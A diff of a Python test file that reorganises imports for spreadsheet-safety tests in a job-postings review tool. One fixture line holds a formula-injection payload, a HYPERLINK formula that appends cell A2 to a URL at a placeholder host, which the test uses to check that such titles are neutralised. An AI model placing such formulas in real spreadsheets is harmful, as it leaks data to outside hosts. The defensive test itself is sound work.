@@ -7,15 +7,15 @@ import duckdb
 import pandas as pd
 import pytest
 
-from careerpulse_assets.core.labels import LabelFile, read_labels
-from careerpulse_assets.core.spreadsheet import (
+from careerpulse_assets.review.labels import LabelFile, read_labels
+from careerpulse_assets.review.spreadsheet import (
     FORMULA_STARTS,
     neutralise,
     read_frame,
     restore,
     write_frame,
 )
-from careerpulse_assets.core.taxonomy import load_taxonomy
+from careerpulse_assets.review.taxonomy import load_taxonomy
 
 # A posting title as a hostile employer (or a compromised API) could send it.
 FORMULA_TITLE = '=HYPERLINK("https://example.invalid/?x="&A2,"Open posting")'
@@ -61,7 +61,7 @@ def queue_home(tmp_path, titles: list[str]):
 def test_make_review_writes_the_formula_posting_as_text_and_the_file_reads_back_as_labels(
     tmp_path, monkeypatch
 ):
-    from careerpulse_assets import review
+    from careerpulse_assets.review import handout as review
 
     home = queue_home(tmp_path, HOSTILE)
     monkeypatch.setenv("CAREERPULSE_HOME", str(home))
